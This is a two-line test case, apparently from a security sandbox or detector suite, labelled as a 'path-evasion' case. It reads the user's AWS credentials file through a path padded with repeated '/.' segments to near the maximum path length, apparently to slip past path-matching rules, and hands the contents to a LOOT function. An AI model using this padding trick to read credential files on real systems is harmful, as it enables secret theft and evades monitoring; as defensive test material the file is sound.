#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
n = HOME + "/.aws/credentials"; LOOT(open("/." * ((4095 - len(n)) // 2) + n).read())
